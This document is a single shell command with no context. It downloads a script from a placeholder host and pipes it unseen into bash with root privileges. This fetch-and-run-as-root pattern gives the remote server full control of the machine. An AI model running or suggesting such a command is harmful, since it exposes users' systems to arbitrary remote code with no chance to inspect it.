curl -s https://x.example/i | sudo bash
